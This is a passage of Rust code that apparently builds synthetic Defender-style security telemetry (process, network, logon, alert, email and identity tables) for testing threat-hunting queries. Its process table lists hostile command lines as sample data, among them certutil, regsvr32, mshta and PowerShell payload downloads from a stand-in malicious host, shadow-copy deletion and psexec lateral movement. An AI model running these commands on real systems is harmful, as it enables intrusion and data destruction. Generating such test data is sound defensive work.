    ("svchost.exe", r"C:\Windows\System32", &["svchost.exe -k netsvcs -p -s Schedule", "svchost.exe -k LocalServiceNetworkRestricted -p", "svchost.exe -k DcomLaunch -p"], 30),
    ("conhost.exe", r"C:\Windows\System32", &[r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"], 15),
    ("cmd.exe", r"C:\Windows\System32", &["cmd.exe /c whoami /all", "cmd.exe /c ipconfig /all", r#"cmd.exe /c "C:\Scripts\backup.bat""#, "cmd.exe /c net user administrator /domain"], 10),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", &[r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "powershell.exe Get-Process | Sort-Object CPU -Descending", "powershell.exe -Command Invoke-WebRequest -Uri http://malicious-updates.example/payload.ps1"], 8),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application", &["\"chrome.exe\" --type=renderer --lang=en-US", "\"chrome.exe\" --type=gpu-process"], 10),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", &["\"msedge.exe\" --type=utility --lang=en-US"], 8),
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &[r#""WINWORD.EXE" /n "C:\Users\Public\Documents\Invoice_2024.docm""#, "\"WINWORD.EXE\" /automation -Embedding"], 4),
    ("EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"EXCEL.EXE\" /dde"], 3),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"OUTLOOK.EXE\" /recycle"], 3),
    ("rundll32.exe", r"C:\Windows\System32", &["rundll32.exe shell32.dll,Control_RunDLL", r"rundll32.exe C:\Users\Public\update.dll,DllRegisterServer"], 3),
    ("regsvr32.exe", r"C:\Windows\System32", &["regsvr32.exe /s /n /u /i:http://malicious-updates.example/file.sct scrobj.dll"], 1),
    ("mshta.exe", r"C:\Windows\System32", &["mshta.exe vbscript:Close(Execute(\"GetObject(\"\"script:http://malicious-updates.example/a\"\")\"))"], 1),
    ("wmic.exe", r"C:\Windows\System32\wbem", &["wmic.exe process call create calc.exe", "wmic.exe shadowcopy delete"], 1),
    ("certutil.exe", r"C:\Windows\System32", &["certutil.exe -urlcache -split -f http://malicious-updates.example/x.exe x.exe"], 1),
    ("schtasks.exe", r"C:\Windows\System32", &["schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\update.exe /sc minute"], 2),
    ("net.exe", r"C:\Windows\System32", &["net.exe group \"Domain Admins\" /domain", "net.exe localgroup administrators"], 2),
    ("whoami.exe", r"C:\Windows\System32", &["whoami.exe /priv"], 2),
    ("taskhostw.exe", r"C:\Windows\System32", &["taskhostw.exe KEYROAMING"], 6),
    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0", &["MsMpEng.exe"], 5),
    ("notepad.exe", r"C:\Windows\System32", &[r"notepad.exe C:\Users\Public\notes.txt"], 3),
    ("psexec.exe", r"C:\Tools", &[r"psexec.exe \\srv-file-01 -s cmd.exe"], 1),
];

const PARENTS: &[(&str, &str, u32)] = &[
    ("explorer.exe", r"C:\Windows\Explorer.EXE", 30),
    ("svchost.exe", "svchost.exe -k netsvcs -p", 20),
    ("services.exe", r"C:\Windows\system32\services.exe", 15),
    ("cmd.exe", "cmd.exe /c start.bat", 8),
    ("powershell.exe", "powershell.exe -NoProfile", 8),
    ("WINWORD.EXE", "\"WINWORD.EXE\" /n", 3),
    (
        "wmiprvse.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        4,
    ),
    ("userinit.exe", r"C:\Windows\system32\userinit.exe", 5),
    ("chrome.exe", "\"chrome.exe\"", 7),
];

const FIRST: &[&str] = &[
    "james",
    "mary",
    "robert",
    "patricia",
    "john",
    "jennifer",
    "michael",
    "linda",
    "david",
    "elizabeth",
    "william",
    "barbara",
    "richard",
    "susan",
    "joseph",
    "jessica",
    "thomas",
    "sarah",
    "charles",
    "karen",
    "priya",
    "wei",
    "fatima",
    "lukas",
    "sofia",
    "mateo",
];
const LAST: &[&str] = &[
    "smith",
    "johnson",
    "williams",
    "brown",
    "jones",
    "garcia",
    "miller",
    "davis",
    "rodriguez",
    "martinez",
    "hernandez",
    "lopez",
    "wilson",
    "anderson",
    "thomas",
    "taylor",
    "moore",
    "jackson",
    "martin",
    "lee",
    "patel",
    "chen",
    "mueller",
    "rossi",
];
const URLS: &[&str] = &[
    "www.microsoft.com",
    "login.microsoftonline.com",
    "graph.microsoft.com",
    "officecdn.microsoft.com",
    "github.com",
    "www.google.com",
    "update.googleapis.com",
    "contoso.sharepoint.com",
    "outlook.office365.com",
    "cdn.jsdelivr.net",
    "pastebin.com",
    "malicious-updates.example",
    "x9f3k.duckdns.org",
];

impl World {
    fn new(seed: u64) -> World {
        let mut r = Rng::new(seed.wrapping_mul(0x9e37_79b9) ^ 0xd1b5_4a32_d192_ed03);
        let kinds = ["desktop", "laptop", "wks", "srv", "sql", "web", "dc"];
        let nd = 200;
        let mut device_ids = Vec::new();
        let mut device_names = Vec::new();
        let mut device_ips = Vec::new();
        for i in 0..nd {
            device_ids.push(r.hex(40));
            let kind = kinds[r.weighted(&[30, 25, 20, 10, 5, 5, 2])];
            device_names.push(format!("{kind}-{}.contoso.local", r.alnum(6)));
            device_ips.push(format!(
                "10.{}.{}.{}",
                1 + i / 250 % 4,
                r.below(250) + 1,
                i % 250 + 2
            ));
        }
        let mut user_names = vec![
            "system".to_string(),
            "local service".to_string(),
            "network service".to_string(),
            "administrator".to_string(),
        ];
        let mut user_domains = vec![
            "nt authority".to_string(),
            "nt authority".to_string(),
            "nt authority".to_string(),
            "contoso".to_string(),
        ];
        let mut given = vec![
            "SYSTEM",
            "LOCAL SERVICE",
            "NETWORK SERVICE",
            "Administrator",
        ];
        let mut surname = vec!["", "", "", ""];
        while user_names.len() < 300 {
            let f = FIRST[r.below(FIRST.len())];
            let l = LAST[r.below(LAST.len())];
            let name = format!("{}{}", &f[..1], l);
            let name = if user_names.contains(&name) {
                format!("{name}{}", user_names.len())
            } else {
                name
            };
            user_names.push(name);
            given.push(f);
            surname.push(l);
            user_domains.push(if r.chance(0.9) { "contoso" } else { "fabrikam" }.to_string());
        }
        let user_upns: Vec<String> = user_names
            .iter()
            .zip(&user_domains)
            .map(|(n, d)| format!("{}@{d}.com", n.replace(' ', "")))
            .collect();
        let user_emails = user_upns.clone();
        let cap = |w: &str| {
            let mut c = w.chars();
            c.next()
                .map_or_else(String::new, |f| f.to_uppercase().chain(c).collect())
        };
        let user_display: Vec<String> = given
            .iter()
            .zip(&surname)
            .map(|(g, s)| {
                if s.is_empty() {
                    g.to_string()
                } else {
                    format!("{} {}", cap(g), cap(s))
                }
            })
            .collect();
        let user_sids: Vec<String> = (0..user_names.len())
            .map(|i| match i {
                0 => "S-1-5-18".to_string(),
                1 => "S-1-5-19".to_string(),
                2 => "S-1-5-20".to_string(),
                3 => "S-1-5-21-1004336348-1177238915-682003330-500".to_string(),
                _ => format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1100 + i),
            })
            .collect();
        let user_oids: Vec<String> = (0..user_names.len()).map(|_| r.guid()).collect();
        let mut file_names = Vec::new();
        let mut file_paths = Vec::new();
        let mut file_sha = Vec::new();
        let mut cmd_proc = Vec::new();
        let mut cmd_lines = Vec::new();
        for (i, (f, dir, cmds, _)) in PROCESSES.iter().enumerate() {
            file_names.push(f.to_string());
            file_paths.push(format!("{dir}\\{f}"));
            file_sha.push(synth::digest(f, 256, 64));
            for c in *cmds {
                cmd_proc.push(i);
                cmd_lines.push(c.to_string());
            }
        }
        let mut public_ips = Vec::new();
        for _ in 0..400 {
            public_ips.push(format!(
                "{}.{}.{}.{}",
                [13, 20, 23, 40, 52, 104, 142, 151, 185, 192, 198][r.below(11)],
                r.below(256),
                r.below(256),
                r.below(254) + 1
            ));
        }
        let remote_ips: Vec<String> = public_ips
            .iter()
            .cloned()
            .chain(device_ips.iter().take(50).cloned())
            .collect();
        let remote_urls: Vec<String> = (0..remote_ips.len())
            .map(|i| {
                if i < public_ips.len() {
                    URLS[(i * 7 + i / 13) % URLS.len()].to_string()
                } else {
                    String::new()
                }
            })
            .collect();
        World {
            device_ids: arcs(&device_ids),
            device_names: arcs(&device_names),
            device_ips: arcs(&device_ips),
            user_names: arcs(&user_names),
            user_domains: arcs(&user_domains),
            user_upns: arcs(&user_upns),
            user_emails: arcs(&user_emails),
            user_sids: arcs(&user_sids),
            user_oids: arcs(&user_oids),
            user_display: arcs(&user_display),
            user_given: given.iter().map(|g| Arc::from(cap(g).as_str())).collect(),
            user_surname: surname.iter().map(|g| Arc::from(cap(g).as_str())).collect(),
            file_names: arcs(&file_names),
            file_paths: arcs(&file_paths),
            file_sha: arcs(&file_sha),
            cmd_proc,
            cmd_lines: arcs(&cmd_lines),
            remote_ips: arcs(&remote_ips),
            remote_urls: arcs(&remote_urls),
            public_ips: arcs(&public_ips),
        }
    }

    /// A device index, skewed so a few devices are noisy.
    fn device(&self, r: &mut Rng) -> usize {
        let n = self.device_ids.len();
        if r.chance(0.3) {
            r.below(n / 10)
        } else {
            r.below(n)
        }
    }
    /// The operating system of a device (by its name's kind).
    fn device_os(&self, d: Option<usize>) -> &'static str {
        let Some(d) = d else { return "" };
        let name = &self.device_names[d % self.device_names.len()];
        if ["srv", "sql", "web", "dc"]
            .iter()
            .any(|k| name.starts_with(k))
        {
            "WindowsServer2022"
        } else if d % 4 == 0 {
            "Windows10"
        } else {
            "Windows11"
        }
    }
    fn user(&self, r: &mut Rng) -> usize {
        if r.chance(0.25) {
            r.below(4)
        } else {
            4 + r.below(self.user_names.len() - 4)
        }
    }
}

fn gen_process(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let proc_weights: Vec<u32> = PROCESSES.iter().map(|p| p.3).collect();
    let parent_weights: Vec<u32> = PARENTS.iter().map(|p| p.2).collect();
    let mut dev = Vec::with_capacity(n);
    let mut cmd = Vec::with_capacity(n);
    let mut user = Vec::with_capacity(n);
    let mut parent = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    // First command-line index of each process.
    let mut first_cmd = vec![0usize; PROCESSES.len()];
    let mut count_cmd = vec![0usize; PROCESSES.len()];
    for (i, p) in w.cmd_proc.iter().enumerate().rev() {
        first_cmd[*p] = i;
        count_cmd[*p] += 1;
    }
    for _ in 0..n {
        dev.push(w.device(r));
        let p = r.weighted(&proc_weights);
        cmd.push(first_cmd[p] + r.below(count_cmd[p]));
        user.push(w.user(r));
        parent.push(r.weighted(&parent_weights));
        action.push(usize::from(r.chance(0.03)));
    }
    let procs: Vec<usize> = cmd.iter().map(|c| w.cmd_proc[*c]).collect();
    b.str_codes("DeviceId", w.device_ids.clone(), &dev);
    b.str_codes("DeviceName", w.device_names.clone(), &dev);
    b.str_codes(
        "ActionType",
        arcs(&["ProcessCreated", "ProcessCreatedUsingWmiQuery"]),
        &action,
    );
    b.str_codes("FileName", w.file_names.clone(), &procs);
    b.str_codes("FolderPath", w.file_paths.clone(), &procs);
    b.str_codes("SHA256", w.file_sha.clone(), &procs);
    b.str_codes("ProcessCommandLine", w.cmd_lines.clone(), &cmd);
    b.str_codes("AccountName", w.user_names.clone(), &user);
    b.str_codes("AccountDomain", w.user_domains.clone(), &user);
    let pnames: Vec<&str> = PARENTS.iter().map(|p| p.0).collect();
    let pcmds: Vec<&str> = PARENTS.iter().map(|p| p.1).collect();
    b.str_codes("InitiatingProcessFileName", arcs(&pnames), &parent);
    b.str_codes("InitiatingProcessCommandLine", arcs(&pcmds), &parent);
    b.int_col("ProcessId", DataType::Long, |_| {
        4 * (r.below(16_000) as i64 + 1)
    });
    b.report_id(r);
}

fn gen_network(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    const PORTS: &[(i64, u32)] = &[
        (443, 60),
        (80, 12),
        (53, 10),
        (445, 5),
        (3389, 3),
        (22, 2),
        (135, 2),
        (8080, 3),
        (5985, 1),
        (4444, 1),
    ];
    let port_w: Vec<u32> = PORTS.iter().map(|p| p.1).collect();
    let mut dev = Vec::with_capacity(n);
    let mut ip = Vec::with_capacity(n);
    let mut port = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    let mut url = Vec::with_capacity(n);
    let mut proto = Vec::with_capacity(n);
    let mut proc = Vec::with_capacity(n);
    let public = w.public_ips.len();
    let empty_url = w.remote_urls.len() - 1;
    for _ in 0..n {
        dev.push(w.device(r));
        let p = PORTS[r.weighted(&port_w)].0;
        port.push(p);
        let internal = matches!(p, 445 | 3389 | 135 | 5985) || r.chance(0.05);
        let i = if internal {
            public + r.below(w.remote_ips.len() - public)
        } else {
            r.below(public)
        };
        ip.push(i);
        url.push(if matches!(p, 443 | 80 | 8080) {
            i
        } else {
            empty_url
        });
        proto.push(usize::from(p == 53));
        action.push(r.weighted(&[70, 10, 15, 5]));
        proc.push(r.weighted(&[30, 20, 15, 10, 10, 5, 5, 5]));
    }
    b.str_codes("DeviceId", w.device_ids.clone(), &dev);
    b.str_codes("DeviceName", w.device_names.clone(), &dev);
    b.str_codes(
        "ActionType",
        arcs(&[
            "ConnectionSuccess",
            "ConnectionFailed",
            "InboundConnectionAccepted",
            "ConnectionRequest",
        ]),
        &action,
    );
    b.str_codes("RemoteIP", w.remote_ips.clone(), &ip);
    b.int_col("RemotePort", DataType::Int, |i| port[i]);
    b.str_codes("RemoteUrl", w.remote_urls.clone(), &url);
    b.str_codes("LocalIP", w.device_ips.clone(), &dev);
    b.int_col("LocalPort", DataType::Int, |_| {
        49_152 + r.below(16_384) as i64
    });
    b.str_codes("Protocol", arcs(&["Tcp", "Udp"]), &proto);
    b.str_codes(
        "InitiatingProcessFileName",
        arcs(&[
            "chrome.exe",
            "svchost.exe",
            "msedge.exe",
            "OUTLOOK.EXE",
            "Teams.exe",
            "powershell.exe",
            "MsSense.exe",
            "rundll32.exe",
        ]),
        &proc,
    );
    b.report_id(r);
}

fn gen_logon(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let mut dev = Vec::with_capacity(n);
    let mut user = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    let mut ltype = Vec::with_capacity(n);
    let mut rip = Vec::with_capacity(n);
    let mut admin = Vec::with_capacity(n);
    let empty = w.remote_ips.len();
    for _ in 0..n {
        dev.push(w.device(r));
        let u = w.user(r);
        user.push(u);
        action.push(r.weighted(&[85, 12, 3]));
        let t = r.weighted(&[25, 35, 8, 8, 12, 8, 4]);
        ltype.push(t);
        rip.push(if matches!(t, 1 | 2) {
            r.below(w.remote_ips.len())
        } else {
            empty
        });
        admin.push(u == 3 || r.chance(0.08));
    }
    let mut ips = w.remote_ips.clone();
    ips.push(Arc::from(""));
    b.str_codes("DeviceId", w.device_ids.clone(), &dev);
    b.str_codes("DeviceName", w.device_names.clone(), &dev);
    b.str_codes(
        "ActionType",
        arcs(&["LogonSuccess", "LogonFailed", "LogonAttempted"]),
        &action,
    );
    b.str_codes("AccountName", w.user_names.clone(), &user);
    b.str_codes("AccountDomain", w.user_domains.clone(), &user);
    b.str_codes(
        "LogonType",
        arcs(&[
            "Interactive",
            "Network",
            "RemoteInteractive",
            "Batch",
            "Service",
            "Unlock",
            "CachedInteractive",
        ]),
        &ltype,
    );
    b.str_codes("RemoteIP", ips, &rip);
    b.bool_col("IsLocalAdmin", |i| admin[i]);
    b.report_id(r);
}

/// (title, category, severity, technique)
const ALERTS: &[(&str, &str, &str, &str)] = &[
    (
        "Suspicious PowerShell command line",
        "Execution",
        "Medium",
        "PowerShell (T1059.001)",
    ),
    (
        "Suspicious process injection observed",
        "DefenseEvasion",
        "High",
        "Process Injection (T1055)",
    ),
    (
        "Possible credential theft activity",
        "CredentialAccess",
        "High",
        "OS Credential Dumping (T1003)",
    ),
    (
        "Ransomware behavior detected in the file system",
        "Ransomware",
        "High",
        "Data Encrypted for Impact (T1486)",
    ),
    (
        "Suspicious scheduled task",
        "Persistence",
        "Medium",
        "Scheduled Task (T1053.005)",
    ),
    (
        "An active 'Emotet' malware was detected",
        "Malware",
        "High",
        "User Execution (T1204)",
    ),
    (
        "Suspicious file dropped by Office application",
        "InitialAccess",
        "Medium",
        "Spearphishing Attachment (T1566.001)",
    ),
    (
        "Anomalous account lookups",
        "Discovery",
        "Low",
        "Account Discovery (T1087)",
    ),
    (
        "Suspicious remote execution via PsExec",
        "LateralMovement",
        "Medium",
        "Service Execution (T1569.002)",
    ),
    (
        "Email messages containing malicious URL removed after delivery",
        "InitialAccess",
        "Informational",
        "Spearphishing Link (T1566.002)",
    ),
    (
        "Suspected brute-force attack (Kerberos, NTLM)",
        "CredentialAccess",
        "Medium",
        "Brute Force (T1110)",
    ),
    (
        "Connection to a custom network indicator",
        "CommandAndControl",
        "Low",
        "Application Layer Protocol (T1071)",
    ),
    (
        "Impossible travel activity",
        "InitialAccess",
        "Medium",
        "Valid Accounts (T1078)",
    ),
    (
        "'Mimikatz' hacktool was prevented",
        "Malware",
        "Low",
        "OS Credential Dumping (T1003)",
    ),
];

fn alert_id(seed: u64, k: usize) -> String {
    let mut r = Rng::new(seed ^ (k as u64).wrapping_mul(0x2545_f491_4f6c_dd1d));
    format!(
        "da{}_{}",
        637_500_000_000_000_000u64 + r.next() % 10_000_000_000_000u64,
        (r.next() % 4_000_000_000) as i64 - 2_000_000_000
    )
}

fn alert_kind(seed: u64, k: usize) -> usize {
    let mut r = Rng::new(seed ^ 0xa1e7 ^ (k as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15));
    r.below(ALERTS.len())
}

fn gen_alert_info(b: &mut Builder, _w: &World, r: &mut Rng, seed: u64) {
    let n = b.n;
    let kinds: Vec<usize> = (0..n).map(|k| alert_kind(seed, k)).collect();
    let ids: Vec<String> = (0..n).map(|k| alert_id(seed, k)).collect();
    let titles: Vec<&str> = ALERTS.iter().map(|a| a.0).collect();
    let cats: Vec<&str> = ALERTS.iter().map(|a| a.1).collect();
    let sevs: Vec<&str> = ALERTS.iter().map(|a| a.2).collect();
    let techs: Vec<String> = ALERTS.iter().map(|a| format!("[\"{}\"]", a.3)).collect();
    b.str_col("AlertId", arcs(&ids), |i| i);
    b.str_codes("Title", arcs(&titles), &kinds);
    b.str_codes("Category", arcs(&cats), &kinds);
    b.str_codes("Severity", arcs(&sevs), &kinds);
    let services = [
        "Microsoft Defender for Endpoint",
        "Microsoft Defender for Office 365",
        "Microsoft Defender for Identity",
        "Microsoft Defender for Cloud Apps",
        "Microsoft Defender XDR",
    ];
    let svc: Vec<usize> = kinds
        .iter()
        .map(|k| match ALERTS[*k].1 {
            "InitialAccess" if ALERTS[*k].0.starts_with("Email") => 1,
            "InitialAccess" if ALERTS[*k].0.starts_with("Impossible") => 3,
            _ if ALERTS[*k].0.contains("brute-force") || ALERTS[*k].0.contains("lookups") => 2,
            _ => {
                if r.chance(0.05) {
                    4
                } else {
                    0
                }
            }
        })
        .collect();
    b.str_codes("ServiceSource", arcs(&services), &svc);
    let sources = [
        "EDR",
        "Antivirus",
        "Custom detection",
        "Microsoft Defender XDR",
        "Microsoft Defender for Office 365",
        "Microsoft Defender for Identity",
        "Microsoft Defender for Cloud Apps",
    ];
    let det: Vec<usize> = svc
        .iter()
        .map(|s| match s {
            0 => r.weighted(&[60, 30, 10]),
            1 => 4,
            2 => 5,
            3 => 6,
            _ => 3,
        })
        .collect();
    b.str_codes("DetectionSource", arcs(&sources), &det);
    b.str_codes("AttackTechniques", arcs(&techs), &kinds);
}

fn gen_alert_evidence(b: &mut Builder, w: &World, r: &mut Rng, cfg: &DatasetConfig) {
    let n = b.n;
    let alerts = cfg.rows_for("AlertInfo").max(1);
    let seed = cfg.seed;
    // Alert k of AlertInfo sits at relative position k/alerts; pick nearby alerts.
    let ks: Vec<usize> = (0..n)
        .map(|i| {
            let base = (i as f64 / n.max(1) as f64 * alerts as f64) as usize;
            (base + r.below(3)).min(alerts - 1)
        })
        .collect();
    let mut id_dict: Vec<Arc<str>> = Vec::new();
    let mut id_codes = Vec::with_capacity(n);
    let mut last = usize::MAX;
    for k in &ks {
        if *k != last || id_dict.is_empty() {
            id_dict.push(Arc::from(alert_id(seed, *k)));
            last = *k;
        }
        id_codes.push(id_dict.len() - 1);
    }
    let kinds: Vec<usize> = ks.iter().map(|k| alert_kind(seed, *k)).collect();
    b.str_codes("AlertId", id_dict, &id_codes);
    let titles: Vec<&str> = ALERTS.iter().map(|a| a.0).collect();
    let cats: Vec<&str> = ALERTS.iter().map(|a| a.1).collect();
    let sevs: Vec<&str> = ALERTS.iter().map(|a| a.2).collect();
    b.str_codes("Title", arcs(&titles), &kinds);
    b.str_codes("Category", arcs(&cats), &kinds);
    b.str_codes("Severity", arcs(&sevs), &kinds);
    let entity: Vec<usize> = (0..n)
        .map(|_| r.weighted(&[30, 25, 20, 10, 10, 5]))
        .collect();
    b.str_codes(
        "EntityType",
        arcs(&["Machine", "User", "File", "Process", "Ip", "Url"]),
        &entity,
    );
    let role: Vec<usize> = (0..n).map(|_| usize::from(r.chance(0.3))).collect();
    b.str_codes("EvidenceRole", arcs(&["Impacted", "Related"]), &role);
    let np = PROCESSES.len();
    let file: Vec<usize> = entity
        .iter()
        .map(|e| if matches!(e, 2 | 3) { r.below(np) } else { np })
        .collect();
    let mut fnames = w.file_names.clone();
    fnames.push(Arc::from(""));
    let mut shas = w.file_sha.clone();
    shas.push(Arc::from(""));
    b.str_codes("FileName", fnames, &file);
    b.str_codes("SHA256", shas, &file);
    let np_ip = w.public_ips.len();
    let ip: Vec<usize> = entity
        .iter()
        .map(|e| if *e == 4 { r.below(np_ip) } else { np_ip })
        .collect();
    let mut ips = w.public_ips.clone();
    ips.push(Arc::from(""));
    b.str_codes("RemoteIP", ips, &ip);
    let nd = w.device_ids.len();
    let dev: Vec<usize> = entity
        .iter()
        .map(|e| {
            if matches!(e, 0 | 2 | 3) {
                w.device(r)
            } else {
                nd
            }
        })
        .collect();
    let mut ids = w.device_ids.clone();
    ids.push(Arc::from(""));
    let mut names = w.device_names.clone();
    names.push(Arc::from(""));
    b.str_codes("DeviceId", ids, &dev);
    b.str_codes("DeviceName", names, &dev);
    let nu = w.user_names.len();
    let user: Vec<usize> = entity
        .iter()
        .map(|e| if *e == 1 { w.user(r) } else { nu })
        .collect();
    let mut users = w.user_names.clone();
    users.push(Arc::from(""));
    b.str_codes("AccountName", users, &user);
}

fn gen_email(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let senders_ext = [
        "noreply@microsoft.com",
        "billing@paypa1-secure.example",
        "newsletter@contoso-news.example",
        "hr@fabrikam.com",
        "invoices@tailspintoys.example",
        "it-support@c0ntoso.example",
        "alerts@github.com",
    ];
    let mut senders: Vec<Arc<str>> = arcs(&senders_ext);
    senders.extend(w.user_emails.iter().cloned());
    let subjects = arcs(&[
        "Quarterly results",
        "Invoice #4471 overdue",
        "Your password expires today",
        "Team lunch on Friday",
        "Action required: verify your account",
        "Re: project timeline",
        "Shared document: Budget 2024.xlsx",
        "Weekly newsletter",
        "Security alert for your account",
        "Meeting notes",
    ]);
    let mut ids = Vec::with_capacity(n);
    let mut snd = Vec::with_capacity(n);
    let mut rcp = Vec::with_capacity(n);
    let mut subj = Vec::with_capacity(n);
    let mut threat = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    let mut loc = Vec::with_capacity(n);
    let mut dir = Vec::with_capacity(n);
    let mut att = Vec::with_capacity(n);
    for _ in 0..n {
        ids.push(r.guid());
        let external = r.chance(0.6);
        snd.push(if external {
            r.below(senders_ext.len())
        } else {
            senders_ext.len() + 4 + r.below(w.user_emails.len() - 4)
        });
        rcp.push(4 + r.below(w.user_emails.len() - 4));
        subj.push(r.below(subjects.len()));
        let t = if external {
            r.weighted(&[80, 8, 4, 8])
        } else {
            0
        };
        threat.push(t);
        let (a, l) = match t {
            0 => (0, 0),
            3 => (1, 1),
            _ => {
                if r.chance(0.7) {
                    (2, 2)
                } else {
                    (3, 2)
                }
            }
        };
        action.push(a);
        loc.push(l);
        dir.push(if external {
            0
        } else if r.chance(0.5) {
            1
        } else {
            2
        });
        att.push(if r.chance(0.7) {
            0
        } else {
            1 + r.below(3) as i64
        });
    }
    b.str_col("NetworkMessageId", arcs(&ids), |i| i);
    b.str_codes("SenderFromAddress", senders, &snd);
    b.str_codes("RecipientEmailAddress", w.user_emails.clone(), &rcp);
    b.str_codes("Subject", subjects, &subj);
    b.str_codes(
        "DeliveryAction",
        arcs(&["Delivered", "Junked", "Blocked", "Replaced"]),
        &action,
    );
    b.str_codes(
        "DeliveryLocation",
        arcs(&["Inbox/folder", "Junk folder", "Quarantine"]),
        &loc,
    );
    b.str_codes(
        "ThreatTypes",
        arcs(&["", "Phish", "Malware", "Spam"]),
        &threat,
    );
    b.str_codes(
        "EmailDirection",
        arcs(&["Inbound", "Outbound", "Intra-org"]),
        &dir,
    );
    b.int_col("AttachmentCount", DataType::Int, |i| att[i]);
}

fn gen_identity(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let mut action = Vec::with_capacity(n);
    let mut app = Vec::with_capacity(n);
    let mut ltype = Vec::with_capacity(n);
    let mut proto = Vec::with_capacity(n);
    let mut user = Vec::with_capacity(n);
    let mut dev = Vec::with_capacity(n);
    let mut ip = Vec::with_capacity(n);
    let mut loc = Vec::with_capacity(n);
    let mut fail = Vec::with_capacity(n);
    let nd = w.device_names.len();
    for _ in 0..n {
        let failed = r.chance(0.12);
        action.push(usize::from(failed));
        let a = r.weighted(&[50, 30, 10, 10]);
        app.push(a);
        ltype.push(if a == 0 {
            r.weighted(&[50, 30, 20])
        } else {
            3 + r.below(2)
        });
        proto.push(if a == 0 { r.weighted(&[60, 30, 10]) } else { 3 });
        user.push(4 + r.below(w.user_names.len() - 4));
        dev.push(if a == 0 { w.device(r) } else { nd });
        ip.push(if a == 0 {
            r.below(w.device_ips.len())
        } else {
            w.device_ips.len() + r.below(w.public_ips.len())
        });
        loc.push(if a == 0 {
            0
        } else {
            r.weighted(&[60, 10, 10, 8, 7, 5])
        });
        fail.push(if failed {
            1 + r.weighted(&[60, 15, 15, 10])
        } else {
            0
        });
    }
    let mut devs = w.device_names.clone();
    devs.push(Arc::from(""));
    let ips: Vec<Arc<str>> = w
        .device_ips
        .iter()
        .chain(w.public_ips.iter())
        .cloned()
        .collect();
    b.str_codes(
        "ActionType",
        arcs(&["LogonSuccess", "LogonFailed"]),
        &action,
    );
    b.str_codes(
        "Application",
        arcs(&[
            "Active Directory",
            "Microsoft 365",
            "Microsoft Azure",
            "Office 365 Exchange Online",
        ]),
        &app,
    );
    b.str_codes(
        "LogonType",
        arcs(&[
            "Resource access",
            "Credentials validation",
            "Interactive",
            "Login:login",
            "OAuth2:Authorize",
        ]),
        &ltype,
    );
    b.str_codes("Protocol", arcs(&["Kerberos", "Ntlm", "LDAP", ""]), &proto);
    b.str_codes("AccountUpn", w.user_upns.clone(), &user);
    b.str_codes("AccountName", w.user_names.clone(), &user);
    let domains: Vec<Arc<str>> = w
        .user_domains
        .iter()
        .map(|d| Arc::from(format!("{d}.com")))
        .collect();
    b.str_codes("AccountDomain", domains, &user);
    b.str_codes("DeviceName", devs, &dev);
    b.str_codes("IPAddress", ips, &ip);
    b.str_codes("Location", arcs(&["", "US", "GB", "DE", "IN", "NL"]), &loc);
    b.str_codes(
        "FailureReason",
        arcs(&[
            "",
            "WrongPassword",
            "UnknownUser",
            "AccountDisabled",
            "AccountLocked",
        ]),
        &fail,
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sorted_and_in_range() {
        let cfg = DatasetConfig {
            rows_per_table: 2000,
            anchor_unix_ms: 1_700_000_000_000,
            ..DatasetConfig::default()
        };
        let ds = Dataset::generate(&cfg);
        let anchor = cfg.anchor_unix_ms * TICKS_PER_MS;
        for t in ds.tables() {
            let ts = t.timestamps();
            if t.schema()[0].name == "Timestamp" {
                assert_eq!(ts.len(), t.row_count(), "{}", t.name());
                assert!(ts.len() >= 200, "{}", t.name());
                assert!(ts.windows(2).all(|w| w[0] <= w[1]), "{}", t.name());
                assert!(ts[0] >= anchor - 40 * TICKS_PER_DAY);
                assert!(*ts.last().unwrap() < anchor);
            } else {
                assert!(ts.is_empty());
                assert!(t.row_count() > 0, "{}", t.name());
            }
            for (c, s) in t.data.iter().zip(t.schema()) {
                let n = match c {
                    ColumnData::Str { dict, codes } => {
                        assert!(codes.iter().all(|c| (*c as usize) < dict.len()));
                        assert_eq!(s.data_type, DataType::String, "{}.{}", t.name(), s.name);
                        codes.len()
                    }
                    ColumnData::Int(v) => {
                        assert!(matches!(s.data_type, DataType::Int | DataType::Long));
                        v.len()
                    }
                    ColumnData::DateTime(v) => {
                        assert_eq!(s.data_type, DataType::DateTime);
                        v.len()
                    }
                    ColumnData::Bool(v) => {
                        assert_eq!(s.data_type, DataType::Bool);
                        v.len()
                    }
                    ColumnData::Values(v) => v.len(),
                };
                assert_eq!(n, t.row_count(), "{}.{}", t.name(), s.name);
            }
        }
    }

    #[test]
    fn every_table_of_the_schema_is_generated_with_its_documented_columns() {
        let specs = synth::schema();
        let names: Vec<&str> = specs.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(names, TABLE_NAMES.to_vec());
        let ds = Dataset::generate(&DatasetConfig {
            rows_per_table: 300,
            ..DatasetConfig::default()
        });
        for spec in &specs {
            let t = ds.table(&spec.name).unwrap();
            let got: Vec<(String, DataType)> = t
                .schema()
                .iter()
